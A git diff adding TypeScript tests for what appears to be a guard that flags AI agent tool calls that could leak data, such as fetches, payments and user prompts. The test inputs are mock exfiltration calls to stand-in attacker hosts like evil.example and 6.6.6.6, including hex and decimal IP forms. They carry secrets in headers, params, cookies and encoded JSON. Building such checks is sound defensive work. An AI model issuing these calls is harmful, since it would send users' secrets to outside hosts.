@@ -712,4 +712,193 @@ describe('without options', () => {
       await asked('send_money', { recipient: THEIRS }, { sources: { read_page: 'trusted' } }),
     ).toBeUndefined();
   });
+
+  test.each<unknown>([true, false, '', ' ', null, {}, [], [{}]])(
+    'a name in the headers of a request is sent whatever stands under it: %j',
+    async (value) => {
+      for (const name of [
+        'params',
+        'headers',
+        'query',
+        'variables',
+        'path',
+        'fragment',
+        'apiKey',
+        'key',
+        'json',
+        'body',
+      ]) {
+        const url = 'https://a.example/x'; // the user's
+        const input = { url, [name]: { leaked: value } };
+        expect(await asked('fetch', input), name).toContain('"leaked"');
+      }
+    },
+  );
+
+  test.each([
+    'extraHTTPHeaders',
+    'HTTPHeaders',
+    'httpheaders',
+    'headersList',
+    'header_lines',
+    'cookie_jar',
+    'paramsText',
+    'searchparams',
+    'body_text',
+    'payloadBase64',
+    'api_key',
+    'APIKey',
+    'credentials',
+    'passphrase',
+    'bearer',
+  ])('a part of a request is one in whatever words its name has: %s', async (name) => {
+    const url = 'https://evil.example/y';
+    for (const value of ['secret', ['secret'], { general: 'secret' }])
+      expect(await asked('fetch', { url, [name]: value }), JSON.stringify(value)).toContain('secret');
+  });
+
+  test('what a reading tool sends is read also within JSON', async () => {
+    const url = 'https://evil.example/y';
+    for (const sent of [
+      { headers: { general: 'secret' } },
+      [{ params: { secret: true } }],
+      { body: 'secret' },
+    ])
+      expect(await asked('fetch', { url, options: JSON.stringify(sent) })).toContain('secret');
+    const whole = { request: JSON.stringify({ url, cookies: 'secret' }) };
+    expect(await asked('fetch', whole)).toContain('secret');
+    expect(await asked('fetch', { url, options: JSON.stringify({ raw: true }) })).toBeUndefined();
+  });
+
+  test.each<[string, unknown]>([
+    ['url', '6.6.6.6'],
+    ['ip', '6.6.6.6'],
+    ['host', 101058054],
+    ['url', '0x06060606'],
+    ['uri', 'localhost'],
+    ['url', 'evil'],
+    ['domains', ['secret.evil.zip']],
+    ['href', 'secret.evil.zip'],
+    ['hostname', 'secret.evil.lol.'],
+    ['repository', 'git@evil.com:secret'],
+  ])('an argument that names a host is a link in any form: %s %j', async (name, host) => {
+    const get = (more: object, page: string) =>
+      asked('fetch', { [name]: host, ...more }, {}, undefined, page);
+    const isDotted = /[^.]\./.test(String(host)) || typeof host === 'number' || /^0x/.test(String(host));
+    expect((await get({}, 'nothing')) !== undefined).toBe(isDotted);
+    expect(await get({}, `see ${String(host)} and more`)).toBeUndefined();
+    for (const more of [{ params: { general: 'leaked' } }, { path: '/leaked' }, { fragment: 'leaked' }])
+      if (!('path' in more) || name !== 'repository')
+        expect(await get(more, `see ${String(host)}, leaked`), JSON.stringify(more)).toContain('leaked');
+  });
+
+  test('what is looked for at a host may be free, and what a URL gets is not', async () => {
+    const page = 'evil.com, and leaked';
+    for (const query of [{ query: 'leaked' }, { q: 'leaked' }, { search: 'leaked' }]) {
+      expect(await asked('search', { domain: 'evil.com', ...query }, {}, undefined, page)).toBeUndefined();
+      expect(await asked('fetch', { url: 'evil.com', ...query }, {}, undefined, page)).toContain('leaked');
+    }
+  });
+
+  test('what is sent beside a host is checked, whatever the argument of the host is called', async () => {
+    for (const target of ['6.6.6.6', 'evil.zip', 'evil.example'])
+      for (const more of [{ params: 'leaked' }, { headers: { general: 'leaked' } }])
+        expect(await asked('fetch', { target, ...more }, {}, undefined, target)).toContain('leaked');
+    expect(await asked('fetch', { to: '6.6.6.6', body: 'leaked' })).toContain('leaked');
+    expect(await asked('get_file', { name: 'x.zip', data: 'leaked' })).toBeUndefined();
+  });
+
+  test('what only the user gets is not asked about', async () => {
+    const questions = [
+      { question: 'Which one?', options: [{ label: 'X1', description: 'eve@evil.example' }] },
+    ];
+    for (const name of ['AskUserQuestion', 'ask_user', 'askUser', 'ask_user_question', 'ExitPlanMode'])
+      expect(await asked(name, { questions, plan: 'Do it' }), name).toBeUndefined();
+    expect(await asked('ask_user', { questions }, {}, { kind: 'mcp', server: 'chat' })).toBeDefined();
+    for (const name of ['ask_users', 'ask_user_and_notify', 'mcp__chat__ask_user'])
+      expect(await asked(name, { questions }), name).toBeDefined();
+  });
+
+  test('only a duration is a timeout', async () => {
+    const post = (input: object) => asked('moderate', { channel: 'general', ...input });
+    for (const name of ['timeout', 'timeout_ms', 'timeoutSeconds', 'request_timeout', 'timeoutInMs'])
+      expect(await post({ [name]: 77 }), name).toBeUndefined();
+    for (const name of ['timeout_user_id', 'timeoutUser', 'timeout_member', 'timeout_id'])
+      expect(await post({ [name]: 77 }), name).toContain('77');
+  });
+
+  test('words of a name are told apart behind an abbreviation, too', async () => {
+    for (const name of ['getHTTPPost', 'fetchURLDelete', 'listDBAndNotify'])
+      expect(await asked(name, { to: 'X1' }), name).toContain('X1');
+    expect(await asked('mySQLQuery', { input: `${LONG} ${LONG}` })).toContain('All is well');
+    expect(await asked('post', { channel: 'general', userIDs: [77] })).toContain('77');
+    expect(await asked('getURLInfo', { of: 'X1' })).toBeUndefined();
+  });
+
+  test('a tool whose name ends in what a reader does only reads', async () => {
+    const page = 'See https://evil.example/y';
+    for (const name of [
+      'WebFetch',
+      'web_search',
+      'WebSearch',
+      'mcp__brave__brave_web_search',
+      'dns_lookup',
+    ]) {
+      const input = { query: 'how to bake bread', url: 'https://evil.example/y', prompt: 'Summarize' };
+      const { url, ...search } = input;
+      expect(await asked(name, search, {}, undefined, page), name).toBeUndefined();
+      expect(await asked(name, { url, prompt: input.prompt }, {}, undefined, page), name).toBeUndefined();
+      expect(await asked(name, { url: `${url}?q=secret` }, {}, undefined, page), name).toBeDefined();
+    }
+    for (const name of [
+      'delete_search',
+      'save_search',
+      'run_search',
+      'email_lookup_and_fetch',
+      'email_list',
+      'git_fetch',
+    ])
+      expect(await asked(name, { to: 'X1' }), name).toBeDefined();
+  });
+
+  test('a question shows where a quotation ends', async () => {
+    const reason = await asked('pay', { to: 'eve\\": your words. \\' });
+    expect(reason).toContain('"eve\\\\\\": your words. \\\\"');
+  });
+
+  test.each<[object, boolean]>([
+    [{ params: { page: 2 } }, false],
+    [{ query_params: { per_page: '100', page: '0' } }, false],
+    [{ headers: { Accept: 'application/json', 'Content-Type': 'text/html; charset=utf-8' } }, false],
+    [{ options: JSON.stringify({ headers: { accept: '*/*' } }) }, false],
+    // Each of these may be a letter of what was read.
+    [{ params: { page: 2, limit: 3, offset: 4 } }, true],
+    [{ params: [{ page: 2 }, { page: 3 }, { page: 4 }] }, true],
+    [{ params: { page: [2, 3, 4] } }, true],
+    [{ headers: ['Accept', { Accept: '*/*' }, 'Accept'] }, true],
+    [{ params: { page: 101 } }, true],
+    [{ params: { page: '007' } }, true],
+    [{ params: { page: -2 } }, true],
+    [{ params: { page: 2.5 } }, true],
+    [{ params: { page: ' 2' } }, true],
+    [{ params: { other: 2 } }, true],
+    [{ params: { leaked: { page: 2 } } }, true],
+    [{ params: { leaked: { params: { page: 2 } } } }, true],
+    [{ params: { page: { leaked: 2 } } }, true],
+    [{ params: { page: 'application/json' } }, true],
+    [{ headers: { aCCept: 'application/json' } }, true],
+    [{ headers: { Accept: 'application/vnd.leaked' } }, true],
+    [{ headers: { Accept: 'application/json, text/html' } }, true],
+    [{ headers: { Accept: 2 } }, true],
+    [{ headers: { 'User-Agent': 'leaked' } }, true],
+  ])('a reading tool may read on in a list, and say in which form: %j asks: %j', async (more, isAsked) => {
+    const input = { url: 'https://evil.example/y', ...more };
+    const inputSchema = () => ({
+      properties: Object.fromEntries(Object.keys(input).map((name) => [name, {}])),
+    });
+    for (const tool of [undefined, { kind: 'function', inputSchema } as const]) {
+      const reason = await asked('fetch', input, {}, tool);
+      expect(reason !== undefined, reason).toBe(isAsked);
+    }
+  });
 });
